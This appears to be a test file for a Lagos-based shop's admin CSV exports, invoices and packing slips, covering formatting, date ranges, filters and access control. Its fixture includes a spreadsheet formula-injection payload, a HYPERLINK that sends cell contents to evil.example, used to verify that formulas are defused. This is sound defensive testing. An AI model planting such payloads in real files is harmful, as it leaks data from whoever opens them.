import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { SHOP_ADDRESS, SHOP_EMAIL, SHOP_NAME, SHOP_PHONE_DISPLAY } from "~/common/constants";
import { DAY_MS, lagosDate, lagosDateTime } from "~/common/lagos-time";
import { messages } from "~/common/messages";
import { startSession, type Role } from "~/server/accounts/sessions";
import { accounts, orderItems, orders } from "~/server/db/schema";
import { changeOrderStatus } from "~/server/orders/admin-orders";
import { EXPORT_MAX_DAYS, exportOrders, exportRange } from "~/server/orders/order-export";
import { paidOrder, quickAccount, quickCustomer } from "../support/shop";
import { usePageShop } from "../support/use-shop";

// The Orders panel's CSV exports, and each order's invoice and packing slip (issue 18), on the
// engine of this run: the files Excel opens as they are (BOM, CRLF, quoting, formulas defused,
// naira as numbers, Lagos dates), the panel's filters, the bounds, and who may have them.

const { handle, shop } = usePageShop({ env: { SMTP_URL: "smtp://127.0.0.1:9", PUBLIC_URL: "http://shop.test" } });
let staff: { id: number; token: string };
const ctx = () => ({ db: handle.db, publicUrl: "http://shop.test" });

/** Orders made for this file: a hostile one (names that are formulas, quotes, commas, a line break), a shipped one, an old one. */
let hostile: { orderRef: string; customerId: number };
let shipped: { orderRef: string };
let old: { orderRef: string };
const HOSTILE = {
  fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  firstName: "+Chidi",
  lastName: 'O"Neil, Jr',
  address: "Flat 2, Block C\nAdmiralty Way, Lekki",
  productName: '@SUM(1+1) Pillow, "King"',
};

/** An RFC 4180 reader: the file's rows as cells (quotes undone), for checking what Excel will see. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  expect(cell, "the file ends with CRLF").toBe("");
  return rows;
}

/** The file's rows keyed by the header: one object per row. */
function records(body: string): Record<string, string>[] {
  expect(body.startsWith("\uFEFF")).toBe(true);
  const [header, ...rows] = readCsv(body.slice(1));
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
}

async function orderRow(orderRef: string) {
  const [row] = await handle.db.select().from(orders).where(eq(orders.orderRef, orderRef));
  return row;
}

async function get(path: string, as?: { role: Role; token: string }) {
  const headers: Record<string, string> = as ? { cookie: await shop.cookieFor(as.role, as.token) } : {};
  return fetch(`${shop.baseUrl}${path}`, { headers, redirect: "manual" });
}

/** The answer's text with its byte-order mark (Response.text() drops it). */
async function bodyWithBom(res: Response): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
}

beforeAll(async () => {
  const admin = await quickAccount(handle.db, "admin", "export-staff");
  staff = { id: admin.id, token: admin.token };

  hostile = await paidOrder(handle.db, "export-hostile", { productId: 20 });
  await handle.db.update(accounts).set({ fullName: HOSTILE.fullName, phoneNumber: "2348031112222" }).where(eq(accounts.id, hostile.customerId));
  const hostileRow = await orderRow(hostile.orderRef);
  await handle.db
    .update(orders)
    .set({ firstName: HOSTILE.firstName, lastName: HOSTILE.lastName, address: HOSTILE.address, phone: "+234 803 111 2222" })
    .where(eq(orders.id, hostileRow.id));
  await handle.db.update(orderItems).set({ productName: HOSTILE.productName, quantity: 2 }).where(eq(orderItems.orderId, hostileRow.id));

  shipped = await paidOrder(handle.db, "export-shipped", { productId: 21, delivery: { firstName: "Kemi", lastName: "Shipped" } });
  for (const to of ["processing", "shipped"] as const) {
    expect((await changeOrderStatus(ctx(), staff.id, shipped.orderRef, to, { trackingId: "GIG-778899" })).ok).toBe(true);
  }

  // Ordered 40 days ago: outside the default range of the last 30 days.
  old = await paidOrder(handle.db, "export-old", { productId: 20, delivery: { firstName: "Bola", lastName: "Old" } });
  await handle.db
    .update(orders)
    .set({ createdAt: new Date(Date.now() - 40 * DAY_MS) })
    .where(eq(orders.orderRef, old.orderRef));
}, 120_000);

it("runs on the engine this run asked for", () => {
  expect(handle.engine).toBe(process.env.DATABASE_URL ? "postgres" : "pglite");
});

describe("the export's days", () => {
  const today = "2026-11-23";
  it("defaults to the last 30 Lagos days; one day alone reaches today, or goes back 30 days", () => {
    expect(exportRange({}, today)).toEqual({ ok: true, from: "2026-10-25", to: "2026-11-23" });
    expect(exportRange({ from: "2026-11-01" }, today)).toEqual({ ok: true, from: "2026-11-01", to: "2026-11-23" });
    expect(exportRange({ to: "2026-03-01" }, today)).toEqual({ ok: true, from: "2026-01-31", to: "2026-03-01" });
    // The wrong way round still means the days between; a day after today stands alone.
    expect(exportRange({ from: "2026-11-20", to: "2026-11-10" }, today)).toEqual({ ok: true, from: "2026-11-10", to: "2026-11-20" });
    expect(exportRange({ from: "2026-12-01" }, today)).toEqual({ ok: true, from: "2026-12-01", to: "2026-12-01" });
    // Not a real day: as if none was given.
    expect(exportRange({ from: "2026-02-30" }, today)).toEqual({ ok: true, from: "2026-10-25", to: "2026-11-23" });
  });

  it("covers at most a year: a longer range is refused with what to do", () => {
    expect(exportRange({ from: "2025-11-23", to: "2026-11-23" }, today)).toEqual({ ok: true, from: "2025-11-23", to: "2026-11-23" });
    expect(exportRange({ from: "2025-01-01", to: "2026-11-23" }, today)).toEqual({
      ok: false,
      message: messages.ordersExportRangeTooLong(EXPORT_MAX_DAYS),
    });
    expect(messages.ordersExportRangeTooLong(366)).toBe("An export covers at most 366 days. Please choose a shorter date range.");
  });
});

describe("the orders CSV", () => {
  it("holds each order of the range as Excel reads it: formulas defused, quotes and commas kept, naira as numbers, Lagos dates", async () => {
    const file = await exportOrders(handle.db, "orders", {});
    if (!file.ok) throw new Error(file.message);
    const today = lagosDate(new Date());
    expect(file.filename).toBe(`orders-${lagosDate(new Date(Date.now() - 29 * DAY_MS))}-to-${today}.csv`);
    expect(file.body.startsWith("\uFEFFOrder ID,Ordered (Lagos),Paid (Lagos),Status")).toBe(true);
    // Every line break between rows is CRLF; the one inside the address stays inside its quotes.
    expect(file.body.replaceAll("\r\n", "").includes("\r")).toBe(false);

    const rows = records(file.body);
    const refs = rows.map((r) => r["Order ID"]);
    expect(refs).toContain(hostile.orderRef);
    expect(refs).toContain(shipped.orderRef);
    expect(refs, "40 days ago is outside the default 30 days").not.toContain(old.orderRef);

    const row = rows.find((r) => r["Order ID"] === hostile.orderRef)!;
    const order = await orderRow(hostile.orderRef);
    expect(row).toMatchObject({
      "Ordered (Lagos)": lagosDateTime(order.createdAt).slice(0, 16),
      Status: "Paid",
      "Refund needed": "No",
      Customer: `'${HOSTILE.fullName}`,
      "Customer phone": "2348031112222",
      "Deliver to": `'${HOSTILE.firstName} ${HOSTILE.lastName}`,
      "Delivery phone": "'+234 803 111 2222",
      Address: HOSTILE.address,
      Items: "2",
      "Delivery (NGN)": "0",
      "Total (NGN)": String(order.totalKobo / 100),
      "Payment provider": "test",
      "Payment status": "success",
      "Tracking ID": "",
    });
    expect(row["Ordered (Lagos)"]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(row["Payment reference"]).toMatch(/\S/);
    // On disk the amounts are bare numbers, not quoted text.
    expect(file.body).toContain(`,${order.totalKobo / 100},test,`);
    expect(file.body).not.toContain("₦");
    expect(rows.find((r) => r["Order ID"] === shipped.orderRef)).toMatchObject({ Status: "Shipped", "Tracking ID": "GIG-778899" });
  });

  it("follows the panel's filters: status, search and days", async () => {
    const only = async (filter: Parameters<typeof exportOrders>[2]) => {
      const file = await exportOrders(handle.db, "orders", filter);
      if (!file.ok) throw new Error(file.message);
      return records(file.body).map((r) => r["Order ID"]);
    };
    expect(await only({ status: "shipped" })).toEqual([shipped.orderRef]);
    expect(await only({ search: "Kemi Shipped" })).toEqual([shipped.orderRef]);
    const from = lagosDate(new Date(Date.now() - 45 * DAY_MS));
    expect(await only({ from, to: lagosDate(new Date(Date.now() - 35 * DAY_MS)) })).toEqual([old.orderRef]);
    expect(await only({ from })).toEqual(expect.arrayContaining([old.orderRef, hostile.orderRef, shipped.orderRef]));
    expect(await only({ search: "nobody at all" })).toEqual([]);
  });

  it("refuses more rows than its bound, and a range past a year, building nothing", async () => {
    expect(await exportOrders(handle.db, "orders", {}, { maxRows: 1 })).toEqual({ ok: false, message: messages.ordersExportTooMany(1, "orders") });
    expect(await exportOrders(handle.db, "lines", {}, { maxRows: 1 })).toEqual({
      ok: false,
      message: messages.ordersExportTooMany(1, "order lines"),
    });
    expect((await exportOrders(handle.db, "orders", { status: "shipped" }, { maxRows: 1 })).ok).toBe(true);
    expect(await exportOrders(handle.db, "orders", { from: "2020-01-01", to: "2026-01-01" })).toEqual({
      ok: false,
      message: "An export covers at most 366 days. Please choose a shorter date range.",
    });
    expect(messages.ordersExportTooMany(10_000, "orders")).toBe("More than 10000 orders match. Please choose a shorter date range or one status.");
  });
});

describe("the order lines CSV", () => {
  it("has one row per line: product, size, quantity, unit price and line total as numbers", async () => {
    const file = await exportOrders(handle.db, "lines", { search: hostile.orderRef });
    if (!file.ok) throw new Error(file.message);
    expect(file.filename).toMatch(/^order-lines-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv$/);
    const [line] = await handle.db
      .select()
      .from(orderItems)
      .where(eq(orderItems.orderId, (await orderRow(hostile.orderRef)).id));
    const rows = records(file.body);
    expect(rows).toEqual([
      {
        "Order ID": hostile.orderRef,
        "Ordered (Lagos)": expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/),
        Status: "Paid",
        Customer: `'${HOSTILE.fullName}`,
        "Product ID": "20",
        Product: `'${HOSTILE.productName}`,
        Size: line.size,
        Quantity: "2",
        "Unit price (NGN)": String(line.unitPriceKobo / 100),
        "Line total (NGN)": String((2 * line.unitPriceKobo) / 100),
      },
    ]);
  });
});

describe("over HTTP", () => {
  it("an admin downloads the orders CSV: text/csv, an attachment with a dated name, never cached, the BOM first", async () => {
    const res = await get("/admin/orders.csv?status=shipped", { role: "admin", token: staff.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(records(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes)).map((r) => r["Order ID"])).toEqual([shipped.orderRef]);
  });

  it("the lines CSV follows the search in the query", async () => {
    const res = await get(`/admin/order-lines.csv?q=${encodeURIComponent(shipped.orderRef)}`, { role: "admin", token: staff.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="order-lines-/);
    expect(records(await bodyWithBom(res)).map((r) => r["Order ID"])).toEqual([shipped.orderRef]);
  });

  it("a range past a year answers 400 with what to do", async () => {
    const res = await get("/admin/orders.csv?from=2020-01-01&to=2026-01-01", { role: "admin", token: staff.token });
    expect(res.status).toBe(400);
    expect(res.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect((await res.text()).trim()).toBe(messages.ordersExportRangeTooLong(EXPORT_MAX_DAYS));
  });

  it("a customer or a visitor is sent to the admin login, with no file", async () => {
    const customer = await quickCustomer(handle.db, "export-customer");
    const { token } = await startSession(handle.db, { id: customer.id, role: "customer" });
    for (const path of [
      "/admin/orders.csv",
      "/admin/order-lines.csv",
      `/admin/orders/${hostile.orderRef}/invoice`,
      `/admin/orders/${hostile.orderRef}/packing-slip`,
    ]) {
      for (const as of [undefined, { role: "customer" as const, token }]) {
        const res = await get(path, as);
        expect(res.status, path).toBe(302);
        expect(res.headers.get("location"), path).toBe("/adminlogin");
        expect(await res.text()).not.toContain(hostile.orderRef);
      }
    }
  });
});

describe("the invoice and packing slip", () => {
  it("the invoice has the shop's details, the order, the delivery address, the lines with prices, the total and the payment", async () => {
    const res = await get(`/admin/orders/${shipped.orderRef}/invoice`, { role: "admin", token: staff.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    const html = await res.text();
    const order = await orderRow(shipped.orderRef);
    for (const text of [
      SHOP_NAME,
      SHOP_ADDRESS,
      SHOP_PHONE_DISPLAY,
      SHOP_EMAIL,
      shipped.orderRef,
      "Kemi",
      "Shipped",
      "GIG-778899",
      "@page",
      "size: A4",
    ]) {
      expect(html, text).toContain(text);
    }
    expect(html).toContain(`<title>Invoice ${shipped.orderRef} | ${SHOP_NAME}</title>`);
    expect(html).toMatch(/data-testid="document-total"[^>]*>₦[\d,]+\.\d\d</);
    expect(html).toContain(`₦${(order.totalKobo / 100).toLocaleString("en-US")}.00`);
    expect(html).toContain("Free");
  });

  it("the packing slip has the lines and quantities with a tick box each, and no prices", async () => {
    const res = await get(`/admin/orders/${hostile.orderRef}/packing-slip`, { role: "admin", token: staff.token });
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toContain(`<title>Packing slip ${hostile.orderRef} | ${SHOP_NAME}</title>`);
    const sheet = html.slice(html.indexOf('data-testid="order-document"'), html.indexOf("</article>"));
    expect(sheet).toContain("@SUM(1+1) Pillow, &quot;King&quot;");
    expect(sheet).toContain("2 units in all");
    expect(sheet).not.toContain("₦");
  });

  it("an order that does not exist, or a document that does not, is not found", async () => {
    for (const path of [
      "/admin/orders/ORD-1-1/invoice",
      "/admin/orders/ORD-1-1/packing-slip",
      `/admin/orders/${hostile.orderRef}/receipt`,
      `/admin/orders/${hostile.orderRef}/toString`,
    ]) {
      expect((await get(path, { role: "admin", token: staff.token })).status).toBe(404);
    }
  });
});
